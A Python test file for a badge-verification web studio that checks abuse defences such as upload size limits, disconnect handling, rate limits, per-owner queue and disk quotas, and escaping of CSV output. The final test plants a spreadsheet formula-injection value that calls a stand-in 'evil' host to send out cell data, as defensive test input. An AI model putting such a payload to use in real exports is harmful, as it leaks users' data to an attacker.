"""What one visitor can do to the studio and to others.  Each test names the wrong implementation it catches."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update

from kit.webbing import OpenStudio, Visit, jobs_of
from moireid.badge import Badge
from moireid.fabrication.event import _summary
from moireid.fabrication.mount_parts import Parts
from moireid.fabrication.process_figures import MountFigures
from moireid_studio.http.server import Rates, fits
from moireid_studio.problems import Refusal
from moireid_studio.settings import Limits
from moireid_studio.store.database import jobs as table
from moireid_studio.store.job import JobCounts


@pytest.fixture(scope="module")
def visit(open_studio: OpenStudio, ada: Badge) -> Visit:
    made = open_studio(ada, work=False, form_bytes=1 << 16)
    (made.folder / "jobs").mkdir(parents=True)
    return made


@pytest.mark.parametrize("path", ["/login", "/registry/audit"])
def test_a_form_is_read_no_further_than_its_limit(visit: Visit, path: str) -> None:
    """Catches: a form that is spooled to the disk before anybody asks who sends it, as much as is sent."""
    answer = visit.ask("POST", path, None, files={"x": ("y", bytes(1 << 20))})
    assert answer.status_code == 413


def test_what_is_no_film_is_read_no_further_than_its_limit(visit: Visit) -> None:
    """Catches: what follows a form's end, read as long as somebody sends it."""
    film = b"\0\0\0\x18ftypmp42" + bytes(1 << 18)
    body = b'--b\r\nContent-Disposition: form-data; name="video"\r\n\r\n' + film + b"\r\n--b--\r\n" + bytes(1 << 17)
    sent = {"Content-Type": "multipart/form-data; boundary=b"}
    answer = visit.ask("POST", "/api/verify", "verifier", content=body, headers=sent)
    assert answer.status_code == 413 and "64 kB" in answer.json()["text"]
    assert visit.left() == []


@pytest.mark.parametrize("path", ["/login", "/api/verify", "/registry/audit"])
@pytest.mark.parametrize("pieces", [0, 2])
def test_who_goes_away_in_the_middle_leaves_nothing(visit: Visit, path: str, pieces: int) -> None:
    """Catches: a fault of ours in the log for each visitor who closes a page, and the half of their film."""
    coming = iter(
        [
            *({"type": "http.request", "body": b"--b\r\n", "more_body": True} for _ in range(pieces)),
            {"type": "http.disconnect"},
        ]
    )
    token = visit.tokens["verifier"].encode()
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "scheme": "http",
        "server": ("studio.test", 80),
        "client": ("127.0.0.1", 5000),
        "root_path": "",
        "headers": [
            (b"host", b"studio.test"),
            (b"content-type", b"multipart/form-data; boundary=b"),
            (b"authorization", b"Bearer " + token),
        ],
    }
    said: list[int] = []

    async def receive() -> dict[str, Any]:
        return next(coming)

    async def send(message: Any) -> None:
        said.append(message.get("status", 0))

    asyncio.run(visit.app(scope, receive, send))
    assert said[0] in (400, 403)
    assert visit.left() == []


@pytest.mark.parametrize("headers", [{"Origin": "http://["}, {"Origin": "//["}])
def test_an_address_that_is_none_is_refused(visit: Visit, headers: dict[str, str]) -> None:
    """Catches: a traceback, and an answer without its headers, where an address cannot be taken apart."""
    answer = visit.ask("POST", "/logout", None, headers=headers)
    assert answer.status_code == 403 and "content-security-policy" in answer.headers


def test_one_owner_leaves_places_to_others(tmp_path: Path) -> None:
    """Catches: a queue that one visitor fills with uploads that never end."""
    held = jobs_of(tmp_path / "jobs", Limits(workers=2, waiting=10, uploads=20))
    for _ in range(5):
        held.admit("verify", "greedy")
    with pytest.raises(Refusal):
        held.admit("verify", "greedy")
    assert [held.admit("verify", "another").owner for _ in range(3)] == ["another"] * 3


def test_verifiers_leave_places_to_issuers(tmp_path: Path) -> None:
    """Catches: verifiers who together keep an issuer from issuing; slow uploads that take the queue's places."""
    limits = Limits(workers=2, waiting=10, uploads=100)
    coming = [JobCounts(f"crawler {k}", "verifier", True, 20) for k in range(3)]
    assert fits(coming, "true", "verifier", limits) and not fits(coming, "crawler 0", "verifier", Limits(uploads=80))
    queued = [JobCounts("one", "verifier", False, 5), JobCounts("two", "verifier", False, 4)]
    assert not fits(queued, "three", "verifier", limits) and fits(queued, "three", "issuer", limits)
    assert not fits([JobCounts("one", "issuer", False, 6)], "one", "issuer", limits)


def test_a_token_that_sends_too_many_is_told_when_to_go_on(tmp_path: Path) -> None:
    """Catches: a count of all tokens together, one that never ends, and none at all."""
    rates = Rates(Limits(uploads_a_minute=3, requests_a_minute=5))
    for _ in range(3):
        rates.upload("verifier", "verifier")
    with pytest.raises(Refusal) as refused:
        rates.upload("verifier", "verifier")
    assert refused.value.status == 429 and 0 < int(refused.value.headers["Retry-After"]) <= 60
    for _ in range(6):
        rates.upload("issuer", "issuer")
    rates.request("verifier")


def test_films_take_no_more_of_the_disk_than_their_share(tmp_path: Path) -> None:
    """Catches: a quota that one visitor may use up, or that counts no film on its way."""
    jobs = jobs_of(tmp_path / "jobs", Limits(disk_bytes=1000))
    one, another = jobs.admit("verify", "one"), jobs.admit("verify", "another")
    jobs.stored(one, 500)
    with pytest.raises(Refusal, match="full"):
        jobs.stored(one, 501)
    with pytest.raises(Refusal, match="full"):
        jobs.stored(another, 500)
    jobs.remove(one)
    jobs.stored(another, 500)


def test_results_are_counted_by_owner(tmp_path: Path) -> None:
    """Catches: one visitor's many results that push out another's one."""
    kept = jobs_of(tmp_path / "jobs", Limits(workers=1, kept=2, keep_s=1000.0))
    one, *many = [kept.admit("verify", owner) for owner in ("one", "many", "many", "many", "many")]
    for place, job in enumerate([one, *many]):
        with kept.ledger.database.writing() as connection:
            ended = {"state": "done", "ended": time.time() - 100 + place}
            connection.execute(update(table).where(table.c.id == job.id).values(ended))
    kept.workers.sweep()
    assert kept.find(one.id, "one").id == one.id
    assert [kept.ledger.find(job.id) is not None for job in many] == [False, False, True, True]


def test_what_is_not_ours_stays_in_the_folder(tmp_path: Path) -> None:
    """Catches: a server that empties a folder which was somebody's before."""
    folder = tmp_path / "jobs"
    (folder / ("0" * 32)).mkdir(parents=True)
    (folder / "mine.txt").write_text("mine")
    work = jobs_of(folder, Limits(workers=1))
    work.start()
    work.stop()
    assert [path.name for path in folder.iterdir()] == ["mine.txt"]


def test_a_name_is_no_formula(ada: Badge) -> None:
    """Catches: a list of people that a table's program works out."""
    named = replace(ada, name='=HYPERLINK("http://evil/?"&A1,"x")')
    rows = list(csv.DictReader(io.StringIO(_summary(["001-x"], [named], Parts("none", None, MountFigures())))))
    assert rows[0]["name"] == "'" + named.name
